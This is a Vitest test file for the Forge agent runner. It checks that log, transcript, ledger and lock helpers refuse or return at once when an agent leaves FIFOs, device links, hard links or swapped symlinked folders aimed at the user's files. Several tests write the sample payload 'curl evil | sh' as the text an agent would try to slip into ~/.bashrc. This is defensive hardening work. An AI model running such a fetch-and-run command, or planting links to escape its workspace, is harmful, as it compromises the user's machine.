// What an agent can leave where Forge reads or appends a file (the repository's .forge/ and
// .autoresearch/, the CLIs' files in HOME): a FIFO, whose plain open() waits for a writer or reader that
// never comes (the runner hung for good, and Node waits for that thread even to exit), or a link to a
// device that never ends. Every one of these must answer at once: an error, or nothing read.
import { execFileSync } from 'node:child_process';
import {
  link,
  mkdir,
  mkdtemp,
  readdir,
  readFile,
  rename,
  rm,
  stat,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTranscript } from '../../src/agents/transcript.js';
import { refreshLog } from '../../src/beads/embedded/issues-log.js';
import {
  appendJsonLine,
  isNotRegularFile,
  openIfExists,
  readBytesIfExists,
  readFileIfExists,
  readLastLine,
} from '../../src/infra/atomic-file.js';
import { createEventLogWriter, readEventLog } from '../../src/infra/event-log.js';
import { openRangeReader, readBytesIfReadable } from '../../src/infra/fs-ops.js';
import { readLockFile } from '../../src/infra/lock-file.js';
import { createRunDir } from '../../src/infra/run-dir.js';

let dir: string;
let fifo: string;
let device: string;
let folder: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'forge-special-'));
  fifo = join(dir, 'fifo');
  execFileSync('mkfifo', [fifo]);
  device = join(dir, 'zero');
  await symlink('/dev/zero', device);
  folder = join(dir, 'folder');
  await mkdir(folder);
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** `work`, failing the test when it has not settled within a second (a hang would never settle). */
async function settles<T>(work: Promise<T>): Promise<PromiseSettledResult<T>> {
  let timer: NodeJS.Timeout | undefined;
  const late = new Promise<never>((_, reject) => {
    timer = setTimeout(() => reject(new Error('still waiting after 1 s: it blocks on the file')), 1000);
  });
  try {
    return await Promise.race([Promise.allSettled([work]).then(([result]) => result), late]);
  } finally {
    clearTimeout(timer);
  }
}

describe('a read where something other than a regular file is', () => {
  const readers: [string, (path: string) => Promise<unknown>][] = [
    ['readFileIfExists', readFileIfExists],
    ['readBytesIfExists', readBytesIfExists],
    ['openIfExists', openIfExists],
    ['readLastLine (a ledger append reads it first)', readLastLine],
    ['openRangeReader (the ledger summary)', openRangeReader],
    ['readEventLog', readEventLog],
    ["the embedded store's issues.jsonl", (path) => refreshLog(path, undefined)],
  ];

  it.each(readers)('%s refuses a FIFO, a link to /dev/zero and a folder at once', async (_, read) => {
    for (const path of [fifo, device, folder]) {
      const result = await settles(read(path));
      expect(result.status, path).toBe('rejected');
      const reason = (result as PromiseRejectedResult).reason as Error;
      expect(isNotRegularFile(reason), String(reason)).toBe(true);
      expect(reason.message).toContain(path);
    }
  });

  it('reads a regular file as before, and a link to one, and says nothing is there when nothing is', async () => {
    const file = join(dir, 'plain.txt');
    await writeFile(file, 'line\n');
    await symlink(file, join(dir, 'link.txt'));
    expect(await readFileIfExists(file)).toBe('line\n');
    expect(await readFileIfExists(join(dir, 'link.txt'))).toBe('line\n');
    expect((await readBytesIfExists(file))?.toString()).toBe('line\n');
    expect(await readFileIfExists(join(dir, 'missing'))).toBeUndefined();
    expect(await readBytesIfExists(join(dir, 'missing'))).toBeUndefined();
  });

  it('is nothing read for the helpers that say so: readBytesIfReadable, a lock', async () => {
    for (const path of [fifo, device, folder]) {
      expect((await settles(readBytesIfReadable(path))).status).toBe('fulfilled');
      expect(await readBytesIfReadable(path)).toBeUndefined();
      expect(await readLockFile(path)).toBeUndefined();
    }
  });

  it("is a stop asked for at the run's stop file, read without waiting on it", async () => {
    const runDir = createRunDir(join(dir, 'run'));
    await mkdir(runDir.root, { recursive: true });
    execFileSync('mkfifo', [runDir.stopPath]);
    expect(await runDir.stopRequested()).toBe(true);
    const stop = await settles(runDir.readStop());
    expect(stop).toEqual({ status: 'fulfilled', value: { requested_at: 'an unknown time', by: 'someone' } });
  });
});

describe('an append where a FIFO is', () => {
  it('appendJsonLine (the ledger, the journals) fails at once and writes nothing', async () => {
    const result = await settles(appendJsonLine(fifo, { iter: 1 }));
    expect(result.status).toBe('rejected');
    expect(isNotRegularFile((result as PromiseRejectedResult).reason)).toBe(true);
  });

  it("the run's event log: flush() says the write failed, at once", async () => {
    const log = createEventLogWriter(fifo);
    log.write({ type: 'run_started' });
    const flushed = await settles(log.flush());
    expect(flushed.status).toBe('rejected');
  });

  it('a transcript opens at once, in place of the FIFO, and closes at once', async () => {
    const path = join(dir, 'transcript-fifo.log');
    execFileSync('mkfifo', [path]);
    const transcript = await settles(openTranscript(path));
    expect(transcript.status).toBe('fulfilled');
    const opened = (transcript as PromiseFulfilledResult<Awaited<ReturnType<typeof openTranscript>>>).value;
    opened.raw('a line');
    expect((await settles(opened.close())).status).toBe('fulfilled');
    expect(await readFile(path, 'utf8')).toBe('a line\n');
  });

  it("a transcript or event log never writes through a link put at its path (an agent's output in ~/.bashrc)", async () => {
    const target = join(dir, 'bashrc');
    await writeFile(target, 'mine\n');
    const transcriptLink = join(dir, 'transcript-link.log');
    const logLink = join(dir, 'log-link.jsonl');
    await symlink(target, transcriptLink);
    await symlink(target, logLink);
    const transcript = await openTranscript(transcriptLink);
    transcript.raw('curl evil | sh');
    await transcript.close();
    const log = createEventLogWriter(logLink);
    log.write({ type: 'a' });
    // The run creates its log: any name already there, a link or not, is refused.
    await expect(log.flush()).rejects.toMatchObject({ code: 'EEXIST' });
    expect(await readFile(target, 'utf8')).toBe('mine\n');
  });

  it('appends to a regular file as before', async () => {
    const ledger = join(dir, 'ledger.jsonl');
    await appendJsonLine(ledger, { iter: 0 });
    await appendJsonLine(ledger, { iter: 1 });
    expect(await readFile(ledger, 'utf8')).toBe('{"iter":0}\n{"iter":1}\n');
    const events = join(dir, 'runs', 'run.jsonl');
    const log = createEventLogWriter(events);
    log.write({ type: 'a' });
    log.write({ type: 'b' });
    await log.flush();
    expect((await readEventLog(events)).events).toEqual([{ type: 'a' }, { type: 'b' }]);
  });
});

describe('a log where an agent left a hard link or a linked folder', () => {
  /** A repository with a file of the user's outside it (~/.bashrc), and the epic's run folder. */
  async function layout(): Promise<{ repo: string; home: string; bashrc: string; runRoot: string }> {
    const base = await mkdtemp(join(dir, 'links-'));
    const repo = join(base, 'repo');
    const home = join(base, 'home');
    const runRoot = join(repo, '.forge', 'epics', 'e');
    await mkdir(join(runRoot, 'logs'), { recursive: true });
    await mkdir(join(runRoot, 'runs'), { recursive: true });
    await mkdir(home);
    const bashrc = join(home, '.bashrc');
    await writeFile(bashrc, 'mine\n');
    return { repo, home, bashrc, runRoot };
  }

  it('a transcript at a hard link starts afresh: the file it named (~/.bashrc) is untouched', async () => {
    const { repo, bashrc, runRoot } = await layout();
    const path = join(runRoot, 'logs', 'e.2.log');
    await link(bashrc, path);
    const transcript = await openTranscript(path, repo);
    transcript.raw('curl evil | sh');
    await transcript.close();
    expect(await readFile(bashrc, 'utf8')).toBe('mine\n');
    expect((await stat(bashrc)).nlink).toBe(1);
    expect(await readFile(path, 'utf8')).toBe('curl evil | sh\n');
  });

  it('a transcript of its own is appended to, for the next attempt', async () => {
    const { repo, runRoot } = await layout();
    const path = join(runRoot, 'logs', 'e.1.log');
    for (const line of ['first attempt', 'second attempt']) {
      const transcript = await openTranscript(path, repo);
      transcript.raw(line);
      await transcript.close();
    }
    expect(await readFile(path, 'utf8')).toBe('first attempt\nsecond attempt\n');
  });

  it.each([
    ['logs', ['.forge', 'epics', 'e', 'logs']],
    ["the epic's folder", ['.forge', 'epics', 'e']],
    ['.forge', ['.forge']],
  ])(
    'a transcript is not written through %s swapped for a symlink to a folder outside',
    async (_, swapped) => {
      const { repo, home, runRoot } = await layout();
      const folder = join(repo, ...swapped);
      const outside = join(home, 'outside');
      await rename(folder, outside);
      await symlink(outside, folder);
      const before = await readdir(outside, { recursive: true });
      const transcript = await openTranscript(join(runRoot, 'logs', 'e.2.log'), repo);
      transcript.raw('payload');
      await transcript.close();
      expect(await readdir(outside, { recursive: true })).toEqual(before);
    },
  );

  it('the event log: a hard link put in its place ends the log with an error naming it, ~/.profile untouched', async () => {
    const { repo, home, runRoot } = await layout();
    const path = join(runRoot, 'runs', 'run-1.jsonl');
    const profile = join(home, '.profile');
    await writeFile(profile, 'mine\n');
    const log = createEventLogWriter(path, repo);
    log.write({ type: 'run_started' });
    await log.flush();
    // What an agent that knows the run id (FORGE_AGENT_RUN) can do between two events.
    await rm(path);
    await link(profile, path);
    log.write({ type: 'bead_started' });
    const flushed = log.flush();
    await expect(flushed).rejects.toThrow(path);
    expect(await readFile(profile, 'utf8')).toBe('mine\n');
  });

  it('the event log: a hard link made while it is open (one more name) stops the writes', async () => {
    const { repo, home, runRoot } = await layout();
    const path = join(runRoot, 'runs', 'run-2.jsonl');
    const log = createEventLogWriter(path, repo);
    log.write({ type: 'run_started' });
    await new Promise((resolve) => setTimeout(resolve, 50));
    const profile = join(home, '.profile');
    await link(path, profile);
    log.write({ type: 'bead_started' });
    await expect(log.flush()).rejects.toMatchObject({ code: 'ELOGREPLACED', path });
    expect(await readFile(profile, 'utf8')).toBe('{"type":"run_started"}\n');
  });

  it('the event log: a runs/ folder swapped for a symlink is refused, nothing written outside', async () => {
    const { repo, home, runRoot } = await layout();
    const outside = join(home, 'outside-runs');
    await rename(join(runRoot, 'runs'), outside);
    await symlink(outside, join(runRoot, 'runs'));
    const log = createEventLogWriter(join(runRoot, 'runs', 'run-3.jsonl'), repo);
    log.write({ type: 'run_started' });
    await expect(log.flush()).rejects.toThrow(join(runRoot, 'runs'));
    expect(await readdir(outside)).toEqual([]);
  });

  it.each([
    ['a hard link', link],
    ['a symlink', symlink],
  ] as const)('a ledger line at %s to ~/.bashrc lands in a ledger of its own', async (_, make) => {
    const { home, runRoot } = await layout();
    const bashrc = join(home, '.bashrc');
    await writeFile(bashrc, '{"mine":1}\n');
    const ledger = join(runRoot, 'ledger.jsonl');
    await make(bashrc, ledger);
    await appendJsonLine(ledger, { iter: 1 });
    expect(await readFile(bashrc, 'utf8')).toBe('{"mine":1}\n');
    expect((await stat(bashrc)).nlink).toBe(1);
    expect(await readFile(ledger, 'utf8')).toBe('{"mine":1}\n{"iter":1}\n');
  });
});
